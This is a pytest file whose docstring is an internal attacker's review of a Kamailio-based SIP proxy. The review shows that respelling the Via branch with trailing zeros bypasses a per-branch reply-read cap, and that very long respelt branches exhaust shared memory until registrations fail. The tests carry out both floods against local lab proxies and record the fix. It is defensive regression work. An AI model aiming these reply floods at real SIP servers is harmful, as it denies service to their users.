"""A hundred-and-fifty-fifth attacker's review (December 2026) of ad5fba6: the per-branch
cap on the replies the engine reads in one of the proxy's own tm transactions
(``kemi._reading_left``: htable ``e2mreplyreads`` keyed by ``$via0(branch)``,
``READS_PER_BRANCH`` = 16, the rest dropped unread).  Run on a real Kamailio 5.6.3.

tm does not match a reply by the branch string the proxy wrote, but by the numbers it
parses out of it (``t_reply_matching``, ``src/modules/tm/t_lookup.c``): the hash index
and the branch id are read with ``reverse_hex2int`` (``src/core/ut.h``), least
significant nibble first, upper or lower case, so any number of ``0`` appended to
either (or hex digits past the 8th, shifted out of 32 bits) names the same transaction
and branch; only the 32-character md5 part is compared as bytes.  The cap counts the
string: every spelling is a fresh count, and a fresh htable item.

Hole K1: the cap counts the branch as spelt, tm matches it by value
------------------------------------------------------------------

- Attacker: the callee (insider UA: any account, or a contact where the registrar is
  open), or an untrusted hop on the callee's leg: whoever sees the proxy's Via on the
  INVITE, as in review 153.  Here mallory's UAS at 127.0.155.1; a stranger (dave, no
  account) calls her: one INVITE, one transaction, one branch.
- Messages: 40 ``183 Session Progress`` on that transaction, 30 a second, each with
  review 153's body (four ``application/pkcs7-mime`` envelopes sealed to the proxy), the
  proxy's Via branch spelt ``<branch>0``, ``<branch>00``, ... (one more trailing ``0``
  on the branch id each time).
- Effect observed: on ad5fba6, 40 of 40 read by the engine (160 private-key operations;
  the cap is 16), relayed to dave as tm matched every spelling (40 of 40 in a first
  run with SDP bodies, 25 within the test's 1.5-s wait in the last), no
  ``e2m_replies_unread`` warning, 40 items in ``e2mreplyreads`` for one branch.
  Review 153's K1 (replies in a transaction read at any rate) is open again: nothing
  but the sender's bandwidth bounds it.  The same 40 with the branch as written:
  16 read, 24 dropped, one warning (control).
- Code at fault: ``kamailio_app/kemi.py:729`` (``_reading_left`` keys the count by
  ``$via0(branch)``, the string the attacker writes) with ``kemi.py:2275``.
- Suggested fix: count by what tm matched, not by the text: the transaction's own ids
  and branch (``$T(id_index)``, ``$T(id_label)`` and the branch index, or the branch
  the proxy wrote, kept with the transaction), or drop unread any reply whose top Via
  branch is not in tm's canonical form (``z9hG4bK`` + lower-case reverse hex without a
  trailing ``0`` + ``.`` + 32 hex + ``.`` + branch id without a trailing ``0``, and so no
  longer than 7 + 8 + 1 + 32 + 1 + 2 characters) before anything is counted.
- Test: ``test_hole_respelt_branches_lift_the_cap_on_reads``.

Hole K2: every spelling is an htable item in shared memory, as long as the attacker likes
----------------------------------------------------------------------------------------

- Attacker: as K1 (the callee of one call; the caller may be herself or anyone).
- Messages: on one ringing INVITE, ``183``s with an SDP body whose proxy Via branch is
  followed by 60,000 ``0`` (one more each time; one UDP datagram each), ~230 a second,
  then shorter ones (8,000, 1,000, 100) to fill the crumbs.  Replies in a transaction
  are not counted by pike (review 154), so nothing limits the rate.
- Effect observed: on ad5fba6 (the harness's 64 MB of shm) each reply made an
  ``e2mreplyreads`` item holding its ~60 KB key (``sht_inc`` before any reading; the
  engine then refused it, "header line longer than 8192 bytes", too late): free shm
  from 62.6 MB to 4.3 MB after 1,000 replies in 4.3 s; none left after 1,400 in 5.5 s
  in the last run (3,300 in 14 s in a slower one; ``core.shmmem`` then no longer
  reports ``free``); then bob's REGISTER from his own
  address is answered ``500 Server Internal Error``, and every later call or
  registration with it, for as long as the items live (``autoexpire=200``, renewed
  by each new one: the attacker refreshes the flood every 200 s).  At the product's
  256 MB default it takes about four times as many replies (~1 minute of one
  callee's UDP).  Before the flood the same REGISTER and a call were answered (control
  in the test).
- Code at fault: ``kamailio_app/kemi.py:729-730`` (the attacker's string, any length,
  as the key of ``sht_inc``); ``kamailio_app/templates/kamailio.cfg.tmpl:169``
  (``e2mreplyreads``: no bound on items or key size, 200 s life renewed by
  ``updateexpire``); ``kamailio_app/config.py`` budgets shm for TCP connections only
  (``CONNECTION_SHM_SHARE``), nothing for this table.
- Suggested fix: K1's (a key of fixed, small size that only tm's matched transaction
  can make: at most ``MAX_FORKS`` items per transaction, bounded by the callers' pike
  rates and tm's lifetimes); and never use a received string as an htable key
  without bounding its length.
- Test: ``test_hole_respelt_branches_fill_shared_memory``.

Controls
--------

- ``test_control_the_cap_holds_for_the_branch_as_written``: 40 such 183s with the branch
  as the proxy wrote it: 16 read, the rest dropped unread, one warning, relayed 16.
- ``test_hole_respelt_branches_fill_shared_memory`` first checks that bob registers and
  that dave's call to him is answered (183 and 200 relayed) on the fresh proxy.

Tried and held
--------------

- A reply whose branch id names a branch tm did not open (``.1`` on a one-branch
  INVITE; ``branch_id >= nr_of_outgoings``) matches nothing: a stray, under pike
  (review 70's control in review 153 holds).  Read in the source, not run.
- Replies with no body and no ``Proxy-Body-Policy`` (a 180, the 487 after a CANCEL, a
  200 to CANCEL) are not read and not counted: the cap neither costs nor protects
  anything there.  A CANCEL's replies share its INVITE's branch (tm's rule), so a 200 to
  CANCEL with a body would spend the INVITE branch's count: only the callee can, who
  can drop its own 200 anyway.
- Honest traffic under 16 per branch, by the lifetimes (read, not run): each PRACK,
  UPDATE and re-INVITE is its own transaction with its own branch; a proxied INVITE's
  2xx retransmissions match the transaction only during tm's wait (5 s: the first 200
  and ~3 copies), later ones are strays (pike); a reliable 183 resent until its PRACK
  (0.5 s doubling to 32 s) is 7 copies; a UAS's keep-alive 1xx comes once a minute
  for at most ``max_inv_lifetime`` 180 s.  A forked INVITE gets 16 per branch (tm's
  branch ids), as documented.  I found no honest call passing 16 on one branch.
- TCP/TLS: the same key (``$via0(branch)``) whatever the transport, so K1 and K2 hold
  there too (not run: UDP suffices).

Fixed (stop 47), K1 and K2: ``kemi._reading_left`` names the branch by what tm
matched, the transaction's ``$T(id_index)`` and ``$T(id_label)`` (set by the core
route's ``t_check_trans``) and ``$T_branch_idx`` (its branch index, set by the same
call), never by the Via as received: every spelling of one branch is one count, and
each item's key is three numbers.  Both strict xfails failed (XPASS) on the fix; the
control still reads 16 of 40.
"""

from __future__ import annotations

import re
import socket
import time

import pytest

from e2m_lab.kamailio_harness import SipUa, start_proxy
from e2m_plugins import sip
from e2m_plugins.testpki import TestPKI
from tests.kamailio.test_review153_transaction_replies_wire import _SDP, _envelopes, _wait_reads

pytestmark = pytest.mark.kamailio

USERS = {"mallory": "mallory-Secret-155", "bob": "bob-Secret-155"}

_CAP = 16            # kemi.READS_PER_BRANCH on ad5fba6
_FLOOD = 40
_GAP = 1 / 30        # review 153's pace (the socket buffer keeps up)
_PARTS = 4           # envelopes per body: one private-key operation each


@pytest.fixture(scope="module")
def home(pki: TestPKI, tmp_path_factory: pytest.TempPathFactory):
    proxy = start_proxy(tmp_path_factory.mktemp("review155-home"), pki=pki, e2m=True,
                        auth=True, users=USERS)
    yield proxy
    proxy.stop()


@pytest.fixture(scope="module")
def victim(pki: TestPKI, tmp_path_factory: pytest.TempPathFactory):
    """A proxy of its own for K2 (its shared memory is spent)."""
    proxy = start_proxy(tmp_path_factory.mktemp("review155-victim"), pki=pki, e2m=True,
                        auth=True, users=USERS)
    yield proxy
    proxy.stop()




def _register(proxy, user: str, source: str, contact: str) -> sip.SipMessage | None:
    ua = SipUa(proxy.port, user=user, password=USERS[user], source=source, timeout=3.0)
    try:
        reg = ua.build("REGISTER", "sip:example.com", headers=[("Expires", "600")])
        return ua.request(reg.replace("Contact", contact))
    finally:
        ua.close()


def _reply_to(invite: sip.SipMessage, status: str, *, branch_tail: str = "", entity=None,
              sdp: bool = True, tag: str = "r155uas", contact: str = "sip:x@127.0.155.1") -> bytes:
    """A reply on ``invite``'s transaction (its Vias, the proxy's on top with
    ``branch_tail`` appended to its branch, and its Record-Route), with ``entity`` or
    an SDP body."""
    from e2m_plugins.body import with_entity
    vias = invite.get_all("Via")
    top = vias[0]
    if branch_tail:
        top = re.sub(r"(branch=[^;,\s]+)", lambda m: m.group(1) + branch_tail, top, count=1)
    lines = "".join(f"Via: {v}\r\n" for v in [top, *vias[1:]])
    lines += "".join(f"Record-Route: {r}\r\n" for r in invite.get_all("Record-Route"))
    head = (f"SIP/2.0 {status}\r\n{lines}"
            f"From: {invite.get('From')}\r\n"
            f"To: {invite.get('To')};tag={tag}\r\n"
            f"Call-ID: {invite.get('Call-ID')}\r\n"
            f"CSeq: {invite.get('CSeq')}\r\n"
            f"Contact: <{contact}>\r\n")
    if entity is not None:
        return with_entity(sip.parse((head + "Content-Length: 0\r\n\r\n").encode()),
                           entity).serialize()
    if sdp:
        return (head + f"Content-Type: application/sdp\r\nContent-Length: {len(_SDP)}"
                "\r\n\r\n").encode() + _SDP
    return (head + "Content-Length: 0\r\n\r\n").encode()






def _ring(proxy, callee: str, source: str, caller_source: str, tag: str):
    """``callee`` registers a UAS at ``source``; dave (a stranger) calls it.  The UAS
    socket, dave, the INVITE as the UAS got it and the proxy's address."""
    uas = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    uas.bind((source, 0))
    uas.settimeout(5)
    dave = SipUa(proxy.port, user="dave", domain="other.example.net", source=caller_source)
    answer = _register(proxy, callee, source, f"<sip:{callee}@{source}:{uas.getsockname()[1]}>")
    assert answer is not None and answer.status == 200, answer
    invite = dave.build("INVITE", f"sip:{callee}@example.com", to=f"sip:{callee}@example.com",
                        call_id=f"r155-{tag}-{time.time_ns()}@other.example.net",
                        body=_SDP, content_type="application/sdp")
    dave.send(invite.replace("Via", dave.via()))
    data, proxy_addr = uas.recvfrom(65535)
    got = sip.parse(data)
    assert got.method == "INVITE", got.method
    assert f"127.0.0.1:{proxy.port}" in got.get_all("Via")[0], got.get_all("Via")
    return uas, dave, got, proxy_addr


def _relayed(dave: SipUa, status: int, wait: float = 1.5) -> int:
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline:
        dave.receive(0.2)
    return sum(1 for m in dave.received if m.status == status)


def _flood_183s(proxy, pki, tails: list[str], source: str, caller: str, tag: str):
    entity = _envelopes(pki)
    uas, dave, got, proxy_addr = _ring(proxy, "mallory", source, caller, tag)
    try:
        mark = proxy.log_mark()
        for tail in tails:
            uas.sendto(_reply_to(got, "183 Session Progress", branch_tail=tail, entity=entity),
                       proxy_addr)
            time.sleep(_GAP)
        read = _wait_reads(proxy, mark, len(tails), 30.0)
        relayed = _relayed(dave, 183)
        log = proxy.log_since(mark)
        uas.sendto(_reply_to(got, "486 Busy Here", sdp=False), proxy_addr)
        return read, relayed, log
    finally:
        dave.close()
        uas.close()


def test_control_the_cap_holds_for_the_branch_as_written(home, pki):
    read, relayed, log = _flood_183s(home, pki, [""] * _FLOOD, "127.0.155.3",
                                     "127.0.155.4", "control")
    assert read == _CAP, (read, log[-2000:])
    assert relayed == _CAP, relayed
    assert log.count(f"more than {_CAP} replies to read on one branch") == 1


def test_hole_respelt_branches_lift_the_cap_on_reads(home, pki):
    items = home.htable_items("e2mreplyreads")
    read, relayed, log = _flood_183s(home, pki, ["0" * (n + 1) for n in range(_FLOOD)],
                                     "127.0.155.1", "127.0.155.2", "respelt")
    items = home.htable_items("e2mreplyreads") - items
    assert read <= _CAP, (
        f"{read} of {_FLOOD} 183s on one branch read ({_PARTS} envelopes each; cap "
        f"{_CAP}), {relayed} relayed to the caller, {items} e2mreplyreads items made, "
        f"warning: {'more than' in log}")


@pytest.mark.slow
def test_hole_respelt_branches_fill_shared_memory(victim):
    # the fresh proxy serves bob: he registers, a stranger's call to him is answered
    bob = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    bob.bind(("127.0.155.11", 0))
    bob_contact = f"<sip:bob@127.0.155.11:{bob.getsockname()[1]}>"
    bob.close()
    uas, dave, got, proxy_addr = _ring(victim, "bob", "127.0.155.11", "127.0.155.12", "bob")
    try:
        uas.sendto(_reply_to(got, "183 Session Progress", tag="bobt"), proxy_addr)
        uas.sendto(_reply_to(got, "200 OK", tag="bobt"), proxy_addr)
        assert _relayed(dave, 200) == 1, [m.status for m in dave.received]
        bob_contact = f"<sip:bob@127.0.155.11:{uas.getsockname()[1]}>"
    finally:
        dave.close()
        uas.close()
    before = victim.shm()
    # the flood: one ringing INVITE to mallory, 183s with SDP whose branch is padded
    uas, dave, got, proxy_addr = _ring(victim, "mallory", "127.0.155.1", "127.0.155.2", "fill")
    sent, started, left = 0, time.monotonic(), before.get("free", 0)
    try:
        for size, count, gap in ((60000, 4000, 0.004), (8000, 2000, 0.002),
                                 (1000, 2000, 0.002), (100, 2000, 0.002)):
            for n in range(count):
                uas.sendto(_reply_to(got, "183 Session Progress",
                                     branch_tail="0" * (size + n)), proxy_addr)
                sent += 1
                time.sleep(gap)
                if n % 100 == 99:
                    left = victim.shm().get("free", 0)    # gone when none is left
                    if left < 100_000 or time.monotonic() - started > 60:
                        break
            if time.monotonic() - started > 60:
                break
        took = time.monotonic() - started
    finally:
        dave.close()
        uas.close()
    time.sleep(1.0)
    answer = _register(victim, "bob", "127.0.155.11", bob_contact)
    assert answer is not None and answer.status == 200, (
        f"bob's REGISTER answered {answer.status if answer else 'nothing'} after {sent} "
        f"183s with respelt branches in {took:.1f} s from one callee: shm free "
        f"{before.get('free', 0) / 1e6:.1f} MB before, {left / 1e6:.2f} MB after")
